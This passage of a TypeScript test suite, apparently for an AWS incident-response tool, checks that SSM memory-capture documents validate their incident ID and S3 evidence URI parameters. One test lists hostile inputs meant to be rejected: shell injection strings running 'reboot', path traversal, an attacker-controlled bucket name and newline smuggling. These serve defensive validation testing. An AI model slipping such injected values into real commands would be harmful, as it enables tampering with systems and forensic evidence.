    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) });
    const document = memoryCaptureDocument(MEMORY_COMMAND, bucketNamePattern(EVIDENCE_BUCKET));
    const admits = (parameter: string, value: string) => new RegExp(document.parameters![parameter]!.allowedPattern).test(value);

    // Act
    await captureMemory.run(ctx);

    // Assess: what was sent passes SSM's check against the document
    const sent = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input.Parameters!;
    expect(Object.keys(sent).sort()).toEqual(Object.keys(document.parameters!).sort());
    for (const [name, [value]] of Object.entries(sent)) expect(admits(name, value!)).toBe(true);
    // Assess: and nothing else would
    const uri = `s3://${EVIDENCE_BUCKET}/incidents/${ctx.incident.incidentId}/online/memory`;
    for (const hostile of [`${uri}'; reboot; '`, `${uri}/../../other`, uri.replace(EVIDENCE_BUCKET, 'attacker-bucket'), uri.replace('/online/memory', '/online/volatile-data.txt'), `${uri}\n`]) {
      expect(admits('s3Uri', hostile)).toBe(false);
    }
    for (const hostile of [`${ctx.incident.incidentId}$(reboot)`, 'inc-0123', "inc-0123456789abcdef'", '']) expect(admits('incidentId', hostile)).toBe(false);
  });

  it('records where the dump went, which its schema reads back', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', ResponseCode: 0 });

    // Act
    const result = await captureMemory.run(aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), outcomes: SSM_REACHABLE }));

    // Assess
    expect(result.status).toBe('done');
    expect(recordedBy(captureMemory, result)).toEqual(result.data);
    expect(captureMemory.iamActions).toEqual(['ssm:DescribeInstanceInformation', 'ssm:ListCommands', 'ssm:SendCommand', 'ssm:GetCommandInvocation']);
  });
});

describe('Documents: what Terraform deploys for online capture', () => {
  it('the volatile-data document runs exactly the scripts, each on its own platform, with no parameters', () => {
    // Act
    const steps = VOLATILE_DATA_DOCUMENT.mainSteps.map((s) => ({ action: s.action, platform: s.precondition.StringEquals[1], timeout: s.inputs.timeoutSeconds, script: s.inputs.runCommand }));

    // Assess
    expect(VOLATILE_DATA_DOCUMENT.schemaVersion).toBe('2.2');
    expect(VOLATILE_DATA_DOCUMENT.parameters).toBeUndefined();
    expect(steps).toEqual([
      { action: 'aws:runShellScript', platform: 'Linux', timeout: '600', script: [...LINUX_VOLATILE_SCRIPT] },
      { action: 'aws:runShellScript', platform: 'MacOS', timeout: '600', script: [...LINUX_VOLATILE_SCRIPT] },
      { action: 'aws:runPowerShellScript', platform: 'Windows', timeout: '600', script: [...WINDOWS_VOLATILE_SCRIPT] },
    ]);
  });

  it('no script holds {{ }}, which SSM would read as a parameter reference', () => {
    // Assess
    expect([...LINUX_VOLATILE_SCRIPT, ...WINDOWS_VOLATILE_SCRIPT].filter((line) => line.includes('{{'))).toEqual([]);
    expect(MEMORY_COMMAND).not.toContain('{{');
  });

  it('the memory capture document exports the two validated parameters, then runs the configured command as given, on Linux only', () => {
    // Act
    const document = memoryCaptureDocument(MEMORY_COMMAND, bucketNamePattern('evidence.example.org'));
    const [step, ...others] = document.mainSteps;

    // Assess
    expect(others).toEqual([]);
    expect(step).toMatchObject({ action: 'aws:runShellScript', precondition: { StringEquals: ['platformType', 'Linux'] }, inputs: { timeoutSeconds: '3600' } });
    expect(step!.inputs.runCommand.at(-1)).toBe(MEMORY_COMMAND);
    expect(document.parameters).toEqual({
      incidentId: expect.objectContaining({ type: 'String', allowedPattern: '^inc-[0-9a-f]{16}(-g([2-9]|[1-9]\\d{1,3}))?$', interpolationType: 'ENV_VAR' }),
      s3Uri: expect.objectContaining({ type: 'String', allowedPattern: '^s3://evidence\\.example\\.org/incidents/inc-[0-9a-f]{16}(-g([2-9]|[1-9]\\d{1,3}))?/online/memory$', interpolationType: 'ENV_VAR' }),
    });
  });

  it('the memory capture document hands the command FIREBREAK_INCIDENT_ID and FIREBREAK_MEMORY_S3_URI from the parameters, on old agents too', () => {
    // Prepare
    const document = memoryCaptureDocument('printf "%s %s" "$FIREBREAK_INCIDENT_ID" "$FIREBREAK_MEMORY_S3_URI"', 'b');
    const lines = document.mainSteps[0]!.inputs.runCommand;
    const agentPastes = (script: string) => script.replaceAll('{{ incidentId }}', 'inc-0123456789abcdef').replaceAll('{{ s3Uri }}', 's3://b/incidents/inc-0123456789abcdef/online/memory');

    // Act: a current agent sets SSM_<name> (and pastes the same validated values); an old one only pastes them
    const current = spawnSync('sh', ['-c', agentPastes(lines.join('\n'))], { encoding: 'utf8', env: { PATH: process.env.PATH, SSM_incidentId: 'inc-0123456789abcdef', SSM_s3Uri: 's3://b/incidents/inc-0123456789abcdef/online/memory' } });
    const old = spawnSync('sh', ['-c', agentPastes(lines.join('\n'))], { encoding: 'utf8', env: { PATH: process.env.PATH } });

    // Assess
    for (const run of [current, old]) {
      expect(run.stderr).toBe('');
      expect(run.stdout).toBe('inc-0123456789abcdef s3://b/incidents/inc-0123456789abcdef/online/memory');
    }
  });
});
